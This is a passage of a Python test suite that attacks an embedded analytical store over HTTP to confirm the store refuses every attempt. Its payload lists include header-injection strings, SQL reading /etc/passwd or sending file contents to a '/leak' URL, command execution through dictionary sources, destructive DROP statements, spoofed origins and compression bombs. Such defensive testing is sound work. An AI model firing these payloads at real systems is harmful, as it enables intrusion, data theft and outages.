"""Attacks on the embedded store over HTTP, by a web page, a client without a password, the reader
and the writer."""

from __future__ import annotations

import gzip
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import zstandard

from tests.security.raw import RawAnswer, basic, connect, is_cut, read_answer, request, send
from tests.security.store_server import Store, code, server_command, store
from tests.support.processes import wait_until

SECRET = "the secret of the machine"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store with limits that are quickly reached."""
    limits = (
        "--max-connections",
        "1500",
        "--max-result-mb",
        "8",
        "--max-body-mb",
        "64",
        "--max-memory-mb",
        "1500",
    )
    with store(tmp_path_factory.mktemp("abuse"), *limits) as found:
        found.value("CREATE TABLE kept (a String) ENGINE = MergeTree ORDER BY a")
        found.value("INSERT INTO kept VALUES ('heap')")
        yield found


@pytest.fixture
def secret(running: Store, tmp_path: Path) -> Iterator[list[Path]]:
    """Files with a secret: one that the kernel keeps from the server, and one that only its own
    rules protect."""
    inside = running.folder / "secret.csv"
    outside = tmp_path / "secret.csv"
    for file in (inside, outside):
        file.write_text(f"{SECRET}\n")
    yield [inside, outside]
    for file in (inside, outside):
        assert file.read_text() == f"{SECRET}\n"


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A port of another server, and what reached it."""
    reached: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def accept() -> None:
        while True:
            try:
                one, _ = server.accept()
            except OSError:
                return
            with one:
                one.settimeout(1)
                try:
                    reached.append(one.recv(1000))
                except OSError:
                    reached.append(b"")

    threading.Thread(target=accept, daemon=True).start()
    yield int(server.getsockname()[1]), reached
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    assert reached == []


# A1: a page that runs commands.


@pytest.mark.parametrize(
    "query_id",
    [
        "x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
        "%E2%82%AC",
        "a%00b",
        "a%20b",
        "x" * 129,
        "%0a",
        "%ff",
    ],
)
def test_no_text_of_a_request_is_in_a_header(running: Store, query_id: str) -> None:
    """A query_id that is none is replaced by a new one; there is one head, and no HTML."""
    target = f"/?query=SELECT+1&query_id={query_id}"
    for user in ("writer", "reader", ""):
        headers = {"Authorization": basic(user, running.secrets[user])} if user else {}
        answer = request(running.url, target, headers=headers)
        assert (answer.status, answer.body if user else b"") == (
            (200, b"1\n") if user else (403, b"")
        )
        assert b"script" not in b"".join(answer.head)
        assert b"HTTP/1.1" not in b"".join(answer.head[1:]) + answer.body
        assert "html" not in answer.header("content-type")
        assert answer.header("x-content-type-options") == "nosniff"
        assert answer.header("content-security-policy").startswith("sandbox; default-src 'none'")
    assert (
        len(
            request(
                running.url,
                target,
                headers={"Authorization": basic("writer", running.secrets["writer"])},
            ).header("x-clickhouse-query-id")
        )
        == 36
    )


@pytest.mark.parametrize(
    "given",
    [
        {"query_id": "a\r\nX: y"},
        {"session_id": "a\r\nX: y"},
        {"database": "a\r\nX: y"},
        {"default_format": "a\r\nX: y"},
        {"param_x": "a\r\nX: y"},
        {"x\r\nX: y": "1"},
        {"role": "a\r\nX: y"},
        {"query": "SELECT 1 FORMAT `a\r\nX: y`"},
        {"query": "SELECT 1 AS `a\r\nX: y` FORMAT CSVWithNames"},
        {"query": "SELECT 1", "session_timeout": "a\r\nX: y"},
    ],
)
def test_no_parameter_reaches_a_header(running: Store, given: dict[str, Any]) -> None:
    """Whichever it is, also in an error."""
    answer = running.ask(b"", **{"query": "SELECT 1", **given})
    assert not any(line.lower().startswith(b"x:") for line in answer.head)
    assert b"HTTP/1.1" not in b"".join(answer.head[1:])


def test_a_reader_and_a_stranger_make_no_dictionary(running: Store, tmp_path: Path) -> None:
    """Nor does the writer: no SOURCE at all."""
    # A command's own effect: an error could come after the command has run.
    proof = tmp_path / "proof"
    source = f"EXECUTABLE(COMMAND 'id > {proof}; echo x' FORMAT 'TSV')"
    for found in (
        source,
        "FILE(PATH '/etc/passwd' FORMAT 'TSV')",
        "HTTP(URL 'http://127.0.0.1:1/' FORMAT 'TSV')",
        "CLICKHOUSE(TABLE 'x')",
    ):
        sql = (
            f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE({found}) "
            "LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
        )
        for user in ("writer", "reader"):
            assert code(running.ask(sql, user=user)) in (48, 164, 497), (user, sql)
            assert code(running.ask(sql.replace("CREATE", "CREATE OR REPLACE"), user=user)) in (
                48,
                164,
                497,
            )
        assert running.ask(sql, user="").status == 403
    assert not proof.exists()


# A1 to A3: what neither may do, in many spellings. Each is refused by a rule of the server, before
# the engine sees it.

REACHING = [
    "SELECT * FROM file('{file}', LineAsString)",
    "SELECT * FROM FILE('{file}')",
    "SELECT * FROM `file`('{file}')",
    "SELECT file('{file}')",
    "SELECT arrayMap(file, ['{file}'])",
    "SELECT arrayMap(x -> file(x), ['{file}'])",
    "SELECT * APPLY(file) FROM (SELECT '{file}')",
    "SELECT * FROM '{file}'",
    "SELECT * FROM `{file}`",
    'SELECT * FROM "{file}"',
    "SELECT * FROM default.`{file}`",
    "SELECT * FROM numbers(1), '{file}'",
    "SELECT * FROM (SELECT * FROM '{file}')",
    "SELECT * FROM url('http://127.0.0.1:{port}/x', CSV, 'a String')",
    "SELECT * FROM url('http://127.0.0.1:{port}/x')",
    "SELECT * FROM URL /**/ ('http://127.0.0.1:{port}/x')",
    "SELECT * FROM url(concat('http://127.0.0.1:{port}/leak?d=', hex(file('{file}'))), CSV, 'x "
    "String')",
    "SELECT * FROM remote('127.0.0.1:{port}', system.one)",
    "SELECT * FROM remoteSecure('127.0.0.1:{port}', system.one)",
    "SELECT * FROM s3('http://127.0.0.1:{port}/bucket/x', 'CSV', 'a String')",
    "SELECT * FROM mysql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM postgresql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM mongodb('127.0.0.1:{port}', 'a', 'b', 'c', 'd', 'x String')",
    "SELECT * FROM redis('127.0.0.1:{port}', 'k', 'k String')",
    "SELECT * FROM sqlite('{file}', 't')",
    "SELECT * FROM executable('id', 'TSV', 'x String')",
    "SELECT * FROM python('x')",
    "SELECT * FROM filesystem('{folder}')",
    "SELECT * FROM merge('default', '.*csv')",
    "SELECT * FROM eval('SELECT 1')",
    "SELECT * FROM cluster('default', system.one)",
    "SELECT * FROM dictionary('d')",
    "SELECT dictGet('d', 'a', 'x')",
    "SELECT dictGetString('d', 'a', 'x')",
    "SELECT aiGenerate('x')",
    "SELECT * FROM view(SELECT * FROM file('{file}'))",
    "SELECT * FROM viewIfPermitted(SELECT * FROM file('{file}') ELSE null('a String'))",
    "SELECT 1 IN file('{file}')",
    "SELECT * FROM {t:Identifier}",
    "EXPLAIN SELECT * FROM file('{file}')",
    "DESCRIBE TABLE url('http://127.0.0.1:{port}/x')",
    "DESCRIBE '{file}'",
    "SELECT 1 INTO OUTFILE '{file}'",
    "SELECT 1 INTO /**/ OUTFILE '{file}' TRUNCATE",
    "SELECT 1 FORMAT Protobuf",
    "SELECT 1 FORMAT protobufList",
    "SELECT 1 FORMAT CapnProto",
    "SELECT 1 FORMAT Template",
    "SELECT 1 FORMAT AvroConfluent",
    "SELECT formatRow('Protobuf', 1)",
    "SELECT * FROM format(CapnProto, 'a String', 'x')",
    "SELECT 1 SETTINGS output_format_schema = '{file}'",
    "SELECT 1 SETTINGS format_schema = '{file}'",
    "SELECT 1 SETTINGS max_threads = 1, format_template_row = '{file}'",
    "SELECT * FROM (SELECT 1 SETTINGS format_schema = '{file}')",
    "SELECT 1 SETTINGS format_avro_schema_registry_url = 'http://127.0.0.1:{port}'",
    "SELECT 1 SETTINGS input_format_record_errors_file_path = '{file}'",
    "SELECT 1 SETTINGS `format_schema` = '{file}'",
    "SELECT 1 SETTINGS log_comment = 'x'",
    "SELECT 1 SETTINGS allow_introspection_functions",
    "SELECT 1 SETTINGS max_threads = 1, allow_introspection_functions",
    *(
        f"SELECT * FROM {tables} {tail}"
        for tables in (
            "kept AS a JOIN kept AS b ON a.a = b.a, '{file}'",
            "kept AS a JOIN kept AS b USING (a), '{file}'",
            "kept AS a JOIN kept AS where USING (a), '{file}'",
            "system.settings, '{file}'",
            "kept AS where, '{file}'",
            "kept AS format, '{file}'",
            "kept values, '{file}'",
            "kept set, '{file}'",
            "kept select, '{file}'",
            "(SELECT * FROM kept set, '{file}')",
            "view(SELECT * FROM kept AS a JOIN kept AS b USING (a), '{file}')",
        )
        for tail in ("", "LIMIT 1 FORMAT JSON")
    ),
    "SELECT 1 WHERE '' IN (SELECT 'a' FROM kept values, '{file}')",
    "EXPLAIN SELECT * FROM kept set, '{file}'",
    "DESCRIBE (SELECT * FROM kept set, '{file}')",
    "WITH union AS (SELECT 1) SELECT * FROM union select, '{file}'",
    "WITH {t:String} AS x SELECT x FROM kept set, '{file}'",
    "SHOW TABLES FROM default WHERE name IN (SELECT c1 FROM kept set, '{file}')",
    "SHOW COLUMNS FROM kept WHERE field IN (SELECT c1 FROM kept set, '{file}')",
    "SELECT * REPLACE ((SELECT any(c1) FROM kept set, '{file}') AS a) FROM kept",
    "SELECT * APPLY (x -> (SELECT any(c1) FROM kept set, '{file}')) FROM kept",
    "SELECT a FROM kept ORDER BY a WITH FILL INTERPOLATE (a AS (SELECT any(c1) FROM kept set, "
    "'{file}'))",
    "SELECT count() OVER w FROM kept WINDOW w AS (ORDER BY (SELECT any(c1) FROM kept set, "
    "'{file}'))",
    "SELECT * FROM kept LIMIT (SELECT any(c2) FROM kept set, '{file}')",
    "SELECT hasColumnInTable('default', '{file}', 'c1')",
    "SELECT 1 AS show SETTINGS format_schema = '{file}'",
    "SELECT 1 AS reset SETTINGS input_format_record_errors_file_path = '{file}'",
    "SELECT 1 FROM kept AS show SETTINGS allow_introspection_functions = 1",
    "SELECT 1 SETTINGS additional_table_filters = {'a': 'b', 'c': 'd'}, format_schema = 'x'",
]
CHANGING = [
    "INSERT INTO FUNCTION file('{file}', 'TSV', 'a String') SELECT 'x'",
    "INSERT INTO TABLE FUNCTION url('http://127.0.0.1:{port}/x', CSV, 'a String') VALUES ('x')",
    "INSERT INTO FUNCTION remote('127.0.0.1:{port}', default.t) VALUES (1)",
    "INSERT INTO `{file}` VALUES (1)",
    "INSERT INTO '{file}' VALUES (1)",
    "INSERT INTO kept SELECT file('{file}')",
    "INSERT INTO kept VALUES (file('{file}'))",
    "INSERT INTO kept VALUES ('a'), (concat('x', FILE /* */ ('{file}')))",
    "INSERT INTO kept VALUES (`\\x66ile`('{file}'))",
    "INSERT INTO kept VALUES ((SELECT * FROM url('http://127.0.0.1:{port}/x', CSV, 'a String')))",
    "INSERT INTO kept VALUES ((SELECT any(c1) FROM kept set, '{file}'))",
    "INSERT INTO kept VALUES ((FROM '{file}'))",
    "INSERT INTO kept SELECT c1 FROM kept set, '{file}'",
    "CREATE TABLE x (a String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, 100, 100, "
    "100)",
    "KILL QUERY WHERE query_id IN (SELECT c1 FROM kept set, '{file}')",
    "ALTER TABLE kept MODIFY COLUMN a String DEFAULT (SELECT any(c1) FROM kept set, '{file}')",
    "UPDATE kept SET a = (SELECT any(c1) FROM kept set, '{file}') WHERE 1",
    "DROP DATABASE system",
    "DROP DATABASE IF EXISTS `system` SYNC",
    "DETACH DATABASE information_schema",
    "RENAME DATABASE system TO x",
    "TRUNCATE DATABASE system",
    "CREATE VIEW x AS SELECT * FROM kept set, '{file}'",
    "CREATE MATERIALIZED VIEW x TO kept AS SELECT c1 AS a FROM kept set, '{file}'",
    "ALTER TABLE kept DELETE WHERE a IN (SELECT c1 FROM kept set, '{file}')",
    "DELETE FROM kept WHERE a IN (SELECT c1 FROM kept set, '{file}')",
    "INSERT INTO kept FROM INFILE '{file}' FORMAT TSV",
    "INSERT INTO kept SETTINGS format_schema = '{file}' FORMAT Protobuf x",
    "CREATE TABLE x ENGINE = File(TSV, '{file}') AS SELECT 1",
    "CREATE TABLE x (a String) ENGINE = File(TSV)",
    "CREATE TABLE x (a String) ENGINE = URL('http://127.0.0.1:{port}/', CSV)",
    "CREATE TABLE x (a String) ENGINE=/**/`url`('http://127.0.0.1:{port}/', CSV)",
    "CREATE TABLE x (a String) ENGINE = S3('http://127.0.0.1:{port}/b/x', 'CSV')",
    "CREATE TABLE x (a String) ENGINE = Executable('id', 'TSV')",
    "CREATE TABLE x (a String) ENGINE = MySQL('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "CREATE TABLE x (a String) ENGINE = Distributed('default', 'default', 't')",
    "CREATE TABLE x (a String) ENGINE = Merge('default', '.*')",
    "CREATE TABLE x (a String) ENGINE = SQLite('{file}', 't')",
    "CREATE TABLE x (a String) ENGINE = EmbeddedRocksDB(0, '{folder}') PRIMARY KEY a",
    "CREATE TABLE x (a String) ENGINE = FileLog('{folder}', 'TSV')",
    "CREATE TABLE x (a String) ENGINE = Kafka",
    "CREATE TABLE x AS file('{file}', 'TSV', 'a String')",
    "CREATE TABLE x AS '{file}'",
    "CREATE TABLE x (a String DEFAULT file('{file}')) ENGINE = Memory",
    "CREATE TABLE x (a String, b String MATERIALIZED file('{file}')) ENGINE = Memory",
    "CREATE TABLE x (a String, b String ALIAS dictGet('d', 'a', a)) ENGINE = Memory",
    "CREATE TABLE x (a Date, b String) ENGINE = MergeTree ORDER BY a TTL a + "
    "length(file('{file}'))",
    "CREATE TABLE x (a String, CONSTRAINT c CHECK file('{file}') = a) ENGINE = Memory",
    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, "
    "path = '{folder}')",
    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS index_granularity = 1, "
    "storage_policy = 's3'",
    "CREATE TABLE x (a String) ENGINE = MergeTree PARTITION BY file('{file}') ORDER BY a",
    "CREATE TEMPORARY TABLE x (a String) ENGINE = File(TSV, '{file}')",
    "CREATE VIEW x AS SELECT * FROM file('{file}')",
    "CREATE VIEW x AS SELECT * FROM url('http://127.0.0.1:{port}/')",
    "CREATE VIEW x AS SELECT * FROM '{file}'",
    "CREATE MATERIALIZED VIEW x TO kept AS SELECT file(a) AS a FROM kept",
    "CREATE MATERIALIZED VIEW x REFRESH EVERY 1 SECOND ENGINE = Memory AS SELECT * FROM "
    "url('http://127.0.0.1:{port}/')",
    "CREATE MATERIALIZED VIEW x REFRESH EVERY 1 SECOND TO `{file}` AS SELECT 1",
    "CREATE MATERIALIZED VIEW x TO '{file}' AS SELECT 1",
    "CREATE MATERIALIZED VIEW x ENGINE = File(TSV, '{file}') AS SELECT 1",
    "CREATE FUNCTION f AS (x) -> file(x)",
    "CREATE FUNCTION f AS (x) -> x + 1",
    "CREATE NAMED COLLECTION n AS url = 'http://127.0.0.1:{port}/'",
    "CREATE USER u IDENTIFIED BY 'x'",
    "CREATE DATABASE x ENGINE = Filesystem('{folder}')",
    "CREATE DATABASE x ENGINE = SQLite('{file}')",
    "CREATE DATABASE x ENGINE = MySQL('127.0.0.1:{port}', 'a', 'b', 'c')",
    "CREATE DATABASE x ENGINE = Backup('default', File('x'))",
    "ATTACH TABLE x FROM '{folder}' (a String) ENGINE = MergeTree ORDER BY a",
    "ATTACH TABLE x (a String) ENGINE = File(TSV, '{file}')",
    "ATTACH DATABASE x ENGINE = Filesystem('{folder}')",
    "ALTER TABLE kept MODIFY COLUMN a String DEFAULT file('{file}')",
    "ALTER TABLE kept ADD COLUMN b String DEFAULT file('{file}')",
    "ALTER TABLE kept UPDATE a = file('{file}') WHERE 1",
    "ALTER TABLE kept MODIFY SETTING storage_policy = 's3'",
    "ALTER TABLE kept MODIFY SETTING index_granularity = 1, disk = 'x'",
    "ALTER NAMED COLLECTION n SET a = 1",
    "ALTER USER default IDENTIFIED BY 'x'",
    "BACKUP TABLE kept TO File('/tmp/x')",
    "BACKUP TABLE kept TO File('../x')",
    "BACKUP TABLE kept TO Disk('default', 'x')",
    "BACKUP TABLE kept TO S3('http://127.0.0.1:{port}/b/x')",
    "BACKUP TABLE kept TO File('x') SETTINGS base_backup = S3('http://127.0.0.1:{port}/b/x')",
    "RESTORE TABLE kept FROM S3('http://127.0.0.1:{port}/b/x')",
    "RESTORE TABLE kept FROM File('{file}')",
    "SET format_schema = '{file}'",
    "SET max_threads = 1, format_template_row = '{file}'",
    "SET allow_introspection_functions",
    "SET ROLE x",
    "SYSTEM SHUTDOWN",
    "SYSTEM RELOAD CONFIG",
    "SYSTEM RELOAD DICTIONARIES",
    "SYSTEM JEMALLOC FLUSH PROFILE",
    "SYSTEM UNFREEZE WITH NAME 'x'",
    "SYSTEM DROP FORMAT SCHEMA CACHE",
    "SYSTEM SUSPEND FOR 1 SECOND",
    "GRANT ALL ON *.* TO reader",
    "EXECUTE AS x SELECT 1",
    "COPY kept TO '{file}'",
    "SELECT 1 PARALLEL WITH SELECT 2",
    "DROP TABLE nowhere PARALLEL WITH CREATE TABLE x ENGINE = File(TSV, '{file}') AS SELECT 1",
]
REFUSALS = {36, 48, 62, 73, 164, 344, 452, 497}


def _filled(sql: str, file: Path, port: int) -> str:
    return (
        sql.replace("{file}", str(file))
        .replace("{folder}", str(file.parent))
        .replace("{port}", str(port))
    )


@pytest.mark.parametrize("sql", [*REACHING, *CHANGING])
def test_no_user_reaches_beyond_the_store(
    running: Store, secret: list[Path], listener: tuple[int, list[bytes]], sql: str
) -> None:
    """Neither writer nor reader, neither by POST nor by GET; no file is read or written, no server
    is contacted."""
    for file in secret:
        asked = _filled(sql, file, listener[0])
        for user in ("writer", "reader"):
            for answer in (
                running.ask(asked, user=user, param_t=str(file)),
                running.ask(user=user, method="GET", query=asked, param_t=str(file)),
            ):
                assert code(answer) in REFUSALS, answer
                assert SECRET not in answer.body.decode()
    # The store itself goes on and has what it had.
    assert running.value("SELECT count(), max(a) FROM kept") == "1\theap"
    assert running.value("SELECT count() FROM system.tables WHERE name = 'x'") == "0"


def test_the_kernel_refuses_too(running: Store, tmp_path: Path) -> None:
    """On Linux with Landlock the process can open no files but its own and run no program, with any
    statement."""
    log = (running.folder.parent / "log").read_text()
    if "not confined" in log:
        pytest.skip(f"this kernel does not confine processes: {log.strip()}")
    status = Path(f"/proc/{running.pid}/status").read_text()
    assert "NoNewPrivs:\t1" in status


SETTINGS = [
    "output_format_schema", "format_schema", "format_schema_source", "format_template_row",
    "format_template_resultset",
    "format_avro_schema_registry_url", "input_format_record_errors_file_path", "url_base",
    "log_comment", "profile",
    "allow_introspection_functions", "implicit_select", "storage_file_read_method",
    "engine_file_truncate_on_insert",
    "max_query_size", "additional_result_filter",
    "output_format_protobuf_nullables_with_google_wrappers", "workload",
    "send_logs_level", "allow_ddl", "use_query_cache", "s3_create_new_file_on_insert",
    "OUTPUT_FORMAT_SCHEMA",
    "output_format_schema ",
]  # fmt: skip


@pytest.mark.parametrize("name", SETTINGS)
def test_settings_are_a_list_of_names(running: Store, secret: list[Path], name: str) -> None:
    """In the URL, in a form, by POST and by GET, for reader and writer; a file that one names stays
    as it was."""
    for file in secret:
        for user in ("reader", "writer"):
            named: dict[str, Any] = {name: file}
            field = f'Content-Disposition: form-data; name="{name}"'
            form = f"--b\r\n{field}\r\n\r\n{file}\r\n--b--\r\n".encode()
            kind = {"Content-Type": "multipart/form-data; boundary=b"}
            for answer in (
                running.ask("SELECT 1 AS x", user=user, **named),
                running.ask(user=user, method="GET", query="SELECT 1 AS x", **named),
                running.ask(form, user=user, headers=kind, query="SELECT 1 AS x"),
            ):
                assert code(answer) in (164, 452), answer


def test_formats_with_schemas_are_refused_everywhere(running: Store, secret: list[Path]) -> None:
    """In the statement, as a parameter and in a header."""
    for name in (
        "Protobuf",
        "ProtobufSingle",
        "ProtobufList",
        "CapnProto",
        "Template",
        "AvroConfluent",
        "MySQLDump",
    ):
        for user in ("reader", "writer"):
            assert code(running.ask("SELECT 1 AS x", user=user, default_format=name)) == 73
            assert (
                code(running.ask("SELECT 1 AS x", user=user, headers={"X-ClickHouse-Format": name}))
                == 73
            )
        assert code(running.ask("x", query=f"INSERT INTO kept FORMAT {name}")) in (73, 452)


def test_a_name_in_a_parameter_is_checked(running: Store, secret: list[Path]) -> None:
    """A path, a function that reads files, and one that a session remembers from before."""
    for user in ("writer", "reader"):
        for file in secret:
            assert (
                code(running.ask("SELECT * FROM {t:Identifier}", user=user, param_t=str(file)))
                == 36
            )
            assert (
                code(
                    running.ask(
                        f"SELECT arrayMap({{f:Identifier}}, ['{file}'])", user=user, param_f="file"
                    )
                )
                == 497
            )
            assert (
                code(
                    running.ask(
                        f"SELECT arrayMap({{f:Identifier}}, ['{file}'])", user=user, param_f="FILE"
                    )
                )
                == 497
            )
        assert code(running.ask("SELECT * FROM {t:Identifier}", user=user)) == 36
        assert (
            running.ask("SELECT * FROM { t : Identifier }", user=user, param_t="kept").body
            == b"heap\n"
        )
    for file in secret:
        assert code(running.ask(f"SET param_t = '{file}'", session_id="p")) == 0
        answer = running.ask("SELECT * FROM {t:Identifier}", session_id="p")
        assert (code(answer), SECRET in answer.body.decode()) == (36, False)


def test_strings_with_a_slash_are_values_elsewhere(running: Store) -> None:
    """What is no table stays what it is, in clauses of every kind, with parameters, in
    documents."""
    for user in ("writer", "reader"):
        for sql, found in (
            ("SELECT 'x/*' FROM kept", "x/*"),
            (
                "SELECT a FROM kept WHERE a NOT IN ('x/y', 'a/b') AND (a, 'x/y') IN (('heap', "
                "'x/y'))",
                "heap",
            ),
            (
                "SELECT a.a FROM kept AS a JOIN kept AS b ON a.a = b.a AND a.a != concat('x/y', "
                "'{')",
                "heap",
            ),
            ("WITH 'x/y' AS p SELECT p FROM kept GROUP BY 'x/y', p ORDER BY 'a/b', p", "x/y"),
            ("SELECT trim(BOTH '/' FROM a) FROM kept", "heap"),
            ("SELECT {x:String} FROM kept WHERE a != 'a/b'", "a/b"),
            ("SELECT CAST(0 AS DateTime('Europe/London')) FROM kept", "1970-01-01 01:00:00"),
            ("SELECT CAST('x/y' AS Enum8('x/y' = 1, 'a/b' = 2)) FROM kept", "x/y"),
            (
                "SELECT name FROM (SELECT 'a/b' AS name FROM kept) WHERE name IN ('a/b') LIMIT 1 "
                "BY name",
                "a/b",
            ),
            ("SELECT extract(a, '[a-h]+') FROM kept", "hea"),
            ("SELECT a FROM kept WHERE match(a, '^h.*p$') AND NOT match(a, '[0-9]')", "heap"),
            ("SELECT toDateTime(0, 'Europe/London') FROM kept", "1970-01-01 01:00:00"),
        ):
            assert running.ask(sql, user=user, param_x="a/b").body.decode().strip() == found
        sql = (
            "SELECT a FROM kept WHERE a IN ('heap', 'a/b') SETTINGS session_timezone = "
            "'Europe/Berlin', max_threads = 1"
        )
        assert (code(running.ask(sql, user=user)), user) in ((0, "writer"), (164, "reader"))
        assert b'"x": "{pipe}"' in running.ask("SELECT '{pipe}' AS x FORMAT JSON", user=user).body


def test_names_are_quoted(running: Store) -> None:
    """A database or a session that is called like SQL is a name."""
    for user in ("writer", "reader"):
        for name in ("x`; DROP TABLE kept; --", "x\\", "default`", "`"):
            assert code(running.ask("SELECT 1", user=user, database=name)) in (81, 82)
            assert code(running.ask("SELECT 1", user=user, session_id=name)) == 0
    assert code(running.ask("CREATE TEMPORARY TABLE m (a Int8)", session_id="q")) == 0
    assert code(running.ask("SELECT 1", session_id="q", database="x`; DROP TABLE kept; --")) in (
        81,
        82,
    )
    assert running.value("SELECT count() FROM kept") == "1"


def test_an_external_table_holds_plain_data(running: Store, secret: list[Path]) -> None:
    """Neither its columns nor its rows are evaluated further than the store."""
    for structure, form, data in (
        ("a String DEFAULT file('{file}')", "TSV", "x"),
        ("a String) ENGINE = File(TSV, '{file}'", "TSV", "x"),
        ("a String", "Values", "(file('{file}'))"),
        ("a String", "Protobuf", "x"),
    ):
        for file in secret:
            fields: dict[str, Any] = {
                "e_structure": structure.replace("{file}", str(file)),
                "e_format": form,
            }
            rows = data.replace("{file}", str(file))
            part = (
                '--b\r\nContent-Disposition: form-data; name="e"; '
                f'filename="e"\r\n\r\n{rows}\r\n--b--\r\n'
            )
            answer = running.ask(
                part.encode(),
                headers={"Content-Type": "multipart/form-data; boundary=b"},
                query="SELECT * FROM e",
                **fields,
            )
            assert code(answer) in (*REFUSALS, 60), answer
            assert SECRET not in answer.body.decode()


# A2: what a page sends without being asked.


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "image", "Sec-Fetch-Mode": "no-cors"},
        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "script"},
        {
            "Sec-Fetch-Site": "cross-site",
            "Sec-Fetch-Dest": "document",
            "Sec-Fetch-Mode": "navigate",
        },
        {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Dest": "iframe"},
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://localhost:1"},
        {"Host": "evil.example"},
    ],
)
def test_pages_are_no_clients(running: Store, headers: dict[str, str]) -> None:
    """Even with the right credentials, in the header and in the URL, by GET and by POST."""
    login = {"user": "reader", "password": running.secrets["reader"]}
    for method in ("GET", "POST"):
        assert (
            request(
                running.url, f"/?{urlencode({'query': 'SELECT 1', **login})}", method, headers
            ).status
            == 403
        )
        assert running.ask("SELECT 1", user="reader", headers=headers, method=method).status == 403


# A4: who is let in.


def test_nothing_answers_without_credentials(running: Store) -> None:
    """But health, in a fixed text."""
    for path, text in (("/ping", b"Ok.\n"), ("/healthz", b"ok\n"), ("/readyz", b"ok\n")):
        assert request(running.url, path).body == text
    for target in (
        "/",
        "/?query=SELECT+1",
        "/query?query=SELECT+1",
        "/replicas_status",
        "/play",
        "/dashboard",
        "/nowhere",
        "/?user=reader",
        "/?user=writer&password=",
    ):
        for method in ("GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"):
            answer = request(running.url, target, method)
            assert (answer.status, code(answer)) in ((403, 516), (429, 202)), (target, method)


def test_credentials_come_as_clickhouse_takes_them(running: Store) -> None:
    """In three ways in the head; a form is no place for them; a credential without a right scope is
    none."""
    secret = running.secrets["reader"]
    for target, headers in (
        (f"/?user=reader&password={secret}&query=SELECT+1", {}),
        ("/?query=SELECT+1", {"X-ClickHouse-User": "reader", "X-ClickHouse-Key": secret}),
        ("/?query=SELECT+1", {"Authorization": basic("reader", secret)}),
    ):
        assert request(running.url, target, headers=headers).body == b"1\n"
    form = "".join(
        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in (("user", "reader"), ("password", secret), ("query", "SELECT 1"))
    )
    kind = {"Content-Type": "multipart/form-data; boundary=b"}
    assert request(running.url, "/", "POST", kind, f"{form}--b--\r\n".encode()).status == 403
    assert code(running.ask("SELECT 1", user="sender")) == 497
    # Two values of one header: which one is taken differs between servers and proxies.
    twice = (
        b"GET /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        + 2 * b"X-ClickHouse-User: reader\r\n"
        + b"\r\n"
    )
    assert send(running.url, twice).status == 400


# A6: a few kilobytes that stop the store.


def _multipart(data: bytes) -> bytes:
    return b'--b\r\nContent-Disposition: form-data; name="query"\r\n\r\n' + data + b"\r\n--b--\r\n"


FORM = {"Content-Type": "multipart/form-data; boundary=b"}


def test_a_strangers_body_is_not_read(running: Store) -> None:
    """A form that unpacks to a gigabyte, a chunk without end, a length of 99 GB: refused by the
    head, memory as it was."""
    before = running.rss_mb
    # 1 GiB of blanks: it costs memory only when it is unpacked.
    bomb = zstandard.ZstdCompressor(level=19).compress(_multipart(b" " * (1 << 30)))
    wrong = {"Authorization": basic("writer", "wrong")}
    assert request(
        running.url, "/", "POST", {**wrong, **FORM, "Content-Encoding": "zstd"}, bomb
    ).status in (403, 429)
    for line in ("Content-Length: 99000000000", "Transfer-Encoding: chunked"):
        with connect(running.url) as connection:
            head = (
                "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                f"{FORM['Content-Type']}\r\n{line}\r\n\r\n"
            )
            connection.sendall(head.encode() + (b"FFFFFFFFFFFF\r\n" if "chunked" in line else b""))
            assert connection.recv(20).startswith(b"HTTP/1.1 403 ")
            assert is_cut(connection, bytes(1 << 20), 512 << 20)
    assert running.rss_mb < before + 200


@pytest.mark.parametrize("user", ["reader", "writer"])
@pytest.mark.parametrize("coding", ["zstd", "gzip"])
def test_plain_bytes_are_counted(running: Store, user: str, coding: str) -> None:
    """Statements of blanks, forms, and data for a table, packed a thousandfold: refused, memory as
    it was."""
    before = running.rss_mb
    pack = zstandard.ZstdCompressor(level=19).compress if coding == "zstd" else gzip.compress
    # Blanks are a valid part of each: the statement, the form and the data.
    blanks = b" " * (1 << 29)
    headers = {"Content-Encoding": coding}
    for answer in (
        running.ask(pack(blanks), user=user, headers=headers),
        running.ask(pack(blanks), user=user, headers=headers, query="SELECT 1"),
        running.ask(pack(_multipart(blanks)), user=user, headers={**headers, **FORM}),
        running.ask(
            pack(blanks), user=user, headers=headers, query="INSERT INTO kept FORMAT LineAsString"
        ),
    ):
        assert code(answer) in (164, 271, 307), answer
    assert running.rss_mb < before + 300
    assert running.value("SELECT count() FROM kept") == "1"


def test_an_answer_to_a_reader_is_bounded(running: Store) -> None:
    """In bytes as they are sent, in every format, also where the names of columns are what is
    long."""
    for sql in (
        "SELECT number FROM numbers(30000000) FORMAT JSON",
        "SELECT number FROM numbers(30000000) FORMAT TSV",
        "SELECT number FROM numbers(30000000) FORMAT Native",
        "SELECT repeat('x', 1000000) FROM numbers(100) FORMAT JSONEachRow",
